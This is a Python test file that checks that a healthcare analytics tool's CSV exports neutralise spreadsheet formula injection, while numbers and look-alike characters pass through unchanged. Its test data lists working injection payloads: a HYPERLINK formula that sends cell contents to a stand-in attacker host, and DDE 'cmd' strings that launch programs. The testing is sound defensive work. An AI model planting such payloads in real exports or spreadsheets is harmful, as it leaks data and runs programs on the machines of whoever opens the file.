"""Formula cells: text a spreadsheet would run, in every CSV engagekit writes.

A patient or encounter ID, a practitioner code or any text cell of an export can begin
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return; a spreadsheet opening the CSV
would run it (``=HYPERLINK(...)`` leaks data, ``+cmd|...`` starts a program). Every CSV
output (score, predict, forecast, validate --quarantine/--good) must write such a cell
with a leading ``'`` (the OWASP rule), leave numbers (``-5``, ``+3.5``) and look-alike
characters alone, and write the raw value with ``--no-escape-formulas``; Parquet files
and the scores database keep the raw value always.

The hostile cells enter as Parquet, so that what reaches the writers is exactly the
cell below, whatever the CSV reader does with tabs and carriage returns.
"""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from _cli import assert_no_traceback, run
from _factories import model_with_manifest, valid_encounter_rows
from engagekit import load_config, simulate_encounters
from engagekit.io._model_store import save_model

CONFIG = load_config()

# (raw cell, the cell a CSV must hold): the expected cells are written out by hand
CELLS = [
    # a spreadsheet runs these: a leading '
    ('=HYPERLINK("http://evil.example/?d="&A1,"Open")',
     '\'=HYPERLINK("http://evil.example/?d="&A1,"Open")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("=cmd|' /C notepad'!A0", "'=cmd|' /C notepad'!A0"),
    ("-", "'-"),
    ("--5", "'--5"),
    ("+3.5e", "'+3.5e"),
    ("-5 ", "'-5 "),
    ("@", "'@"),
    # numbers: a spreadsheet reads them as the number they are
    ("-5", "-5"),
    ("+3.5", "+3.5"),
    ("-0.25e-3", "-0.25e-3"),
    ("-.5", "-.5"),
    ("+7.", "+7."),
    # look-alikes and a formula sign not first: not run, so kept as they are
    ("\uff1d1+2", "\uff1d1+2"),  # fullwidth equals sign
    ("\ufe661+2", "\ufe661+2"),  # small equals sign
    ("\uff0b1", "\uff0b1"),  # fullwidth plus sign
    ("\uff0d1", "\uff0d1"),  # fullwidth hyphen-minus
    ("\u22121", "\u22121"),  # minus sign
    ("\uff20SUM(1)", "\uff20SUM(1)"),  # fullwidth commercial at
    ("\u200b=1+2", "\u200b=1+2"),  # zero-width space first
    (" =1+2", " =1+2"),
    ("P=1+2", "P=1+2"),
]  # fmt: skip
IDS = [repr(raw) for raw, _ in CELLS]
GROUP = "=group"  # a column name a spreadsheet would run, as a forecast's header


def _csv_rows(path: Path) -> list[dict[str, str]]:
    """A CSV's rows, every cell exactly as written (CR and tabs inside quoted cells)."""
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _column(rows: list[dict[str, str]], name: str) -> set[str]:
    return {row[name] for row in rows}


@pytest.fixture(scope="module")
def service(tmp_path_factory) -> Path:
    """``encounters.parquet``, whose patient k (k < len(CELLS)) has the k-th hostile cell
    as patient_id, as the encounter_id of its first session and in the ``=group``
    column; a logistic model of adherence in ``model/``; and ``raw.parquet``, a text
    table with the hostile cells as practitioner_id and as an empathy rating."""
    tmp = tmp_path_factory.mktemp("formulas")
    encounters = simulate_encounters(len(CELLS) + 14, seed=5, config=CONFIG).encounters
    patients = list(dict.fromkeys(encounters["patient_id"]))
    hostile = {patients[k]: raw for k, (raw, _) in enumerate(CELLS)}
    first = encounters["session_number"] == encounters.groupby("patient_id")[
        "session_number"
    ].transform("min")
    named = encounters["patient_id"].map(hostile)
    encounters["encounter_id"] = encounters["encounter_id"].mask(first & named.notna(), named)
    encounters["patient_id"] = named.fillna(encounters["patient_id"])
    encounters[GROUP] = encounters["patient_id"]
    encounters.to_parquet(tmp / "encounters.parquet", index=False)
    model, manifest = model_with_manifest(encounters, "adherent", "logistic", CONFIG, seed=1)
    save_model(model, tmp / "model", manifest)
    raw = valid_encounter_rows(len(CELLS), 2)
    for k, (cell, _) in enumerate(CELLS):
        raw.loc[2 * k : 2 * k + 1, "practitioner_id"] = cell
        raw.loc[2 * k, "empathy"] = cell
    raw.to_parquet(tmp / "raw.parquet", index=False)
    return tmp


def _ok(result) -> None:
    assert result.returncode == 0, result.stdout + result.stderr
    assert_no_traceback(result)


# each command once with its default (escaped) and once with --no-escape-formulas
# the model of a few dozen patients ranks no better than chance, and is saved marked so
UNFIT = "--allow-unfit-model"
COMMANDS = {
    "score": lambda out, *flag: (
        "score", "model", "encounters.parquet", "--out", f"{out}/scores.csv", UNFIT, *flag
    ),
    "predict": lambda out, *flag: (
        "predict", "model", "encounters.parquet", "--out", f"{out}/predictions.csv", UNFIT,
        *flag,
    ),
    "forecast": lambda out, *flag: (
        "forecast", "model", "encounters.parquet", "--by", GROUP, "--every-encounter",
        "--out", f"{out}/forecast.csv", UNFIT, *flag,
    ),
    "validate": lambda out, *flag: (
        "validate", "raw.parquet", "--quarantine", f"{out}/quarantine.csv",
        "--good", f"{out}/good.csv", *flag,
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def written(service) -> dict[str, dict[str, list[dict[str, str]]]]:
    """``written[folder][file]``: the rows of every CSV the commands wrote, escaped (in
    ``escaped/``) and with --no-escape-formulas (in ``raw/``)."""
    for command, arguments in COMMANDS.items():
        for folder, flag in (("escaped", ()), ("raw", ("--no-escape-formulas",))):
            result = run(*arguments(folder, *flag), cwd=service)
            if command == "validate":  # exit 1: the table breaks the contract
                assert result.returncode == 1, result.stdout + result.stderr
                assert_no_traceback(result)
            else:
                _ok(result)
    return {
        folder: {path.name: _csv_rows(path) for path in (service / folder).glob("*.csv")}
        for folder in ("escaped", "raw")
    }


# the columns each file holds the hostile cells in (the validate outputs hold each row
# in one of them: the cells are checked over both)
HOLDERS = [
    ("scores.csv", "patient_id"),
    ("scores.csv", "encounter_id"),
    ("predictions.csv", "patient_id"),
    ("predictions.csv", "encounter_id"),
    ("forecast.csv", f"'{GROUP}"),
]


@pytest.mark.parametrize(("file", "column"), HOLDERS)
@pytest.mark.parametrize(("raw", "expected"), CELLS, ids=IDS)
def test_every_csv_output_neutralises_the_cell(written, file, column, raw, expected):
    cells = _column(written["escaped"][file], column)
    assert expected in cells
    if raw != expected:
        assert raw not in cells


@pytest.mark.parametrize("column", ["practitioner_id", "empathy"])
@pytest.mark.parametrize(("raw", "expected"), CELLS, ids=IDS)
def test_the_quarantined_and_good_rows_are_neutralised_but_numbers_kept(
    written, column, raw, expected
):
    rows = written["escaped"]["quarantine.csv"] + written["escaped"]["good.csv"]
    cells = _column(rows, column)
    assert expected in cells
    if raw != expected:
        assert raw not in cells


def test_the_quarantine_keeps_its_row_numbers_and_every_row(written):
    quarantined = written["escaped"]["quarantine.csv"]
    good = written["escaped"]["good.csv"]
    assert len(quarantined) + len(good) == 2 * len(CELLS)
    # the data row numbers, numbers written as numbers
    assert all(row["row"].isdigit() for row in quarantined)
    # a rating "+3.5" is a valid rating: its row is good, as read
    assert "+3.5" in _column(good, "empathy")


def test_a_forecast_header_that_is_a_formula_is_neutralised(written):
    header = list(written["escaped"]["forecast.csv"][0])
    assert header[0] == f"'{GROUP}" and GROUP not in header
    assert next(iter(written["raw"]["forecast.csv"][0])) == GROUP


@pytest.mark.parametrize(
    ("file", "column"),
    [*HOLDERS[:4], ("forecast.csv", GROUP), ("quarantine.csv", "practitioner_id")],
)
def test_no_escape_formulas_writes_the_raw_cells(written, file, column):
    cells = _column(written["raw"][file], column)
    if file == "quarantine.csv":
        cells |= _column(written["raw"]["good.csv"], column)
    assert {raw for raw, _ in CELLS} <= cells
    assert not any(cell.startswith("'") for cell in cells)


def test_the_scores_database_keeps_the_raw_cells(service, written):
    with sqlite3.connect(service / "escaped" / "scores.sqlite") as conn:
        stored = {row[0] for row in conn.execute("SELECT patient_id FROM scores")}
    assert {raw for raw, _ in CELLS} <= stored
    assert not any(cell.startswith("'") for cell in stored)


PARQUET = [
    ("score", "model", "encounters.parquet", "--out", "parquet/scores.parquet", UNFIT),
    ("predict", "model", "encounters.parquet", "--out", "parquet/predictions.parquet", UNFIT),
    ("forecast", "model", "encounters.parquet", "--by", GROUP, "--every-encounter",
     "--out", "parquet/forecast.parquet", UNFIT),
]  # fmt: skip


@pytest.mark.parametrize("arguments", PARQUET, ids=["score", "predict", "forecast"])
def test_parquet_keeps_the_raw_cells(service, arguments):
    _ok(run(*arguments, cwd=service))
    table = pq.read_table(service / arguments[arguments.index("--out") + 1]).to_pandas()
    column = GROUP if arguments[0] == "forecast" else "patient_id"
    cells = set(table[column])
    assert {raw for raw, _ in CELLS} <= cells
    assert not any(cell.startswith("'") for cell in cells)


def test_a_numeric_column_is_never_escaped(written):
    """A negative number in a numeric column (a SHAP contribution) is a number."""
    rows = written["escaped"]["scores.csv"]
    shap = [name for name in rows[0] if name.startswith("shap_")]
    values = [row[name] for row in rows for name in shap]
    negative = [v for v in values if v.startswith("-")]
    assert negative, "no negative contribution to check"
    assert all(float(v) < 0 for v in negative)
    assert pd.Series(values).str.startswith("'").sum() == 0
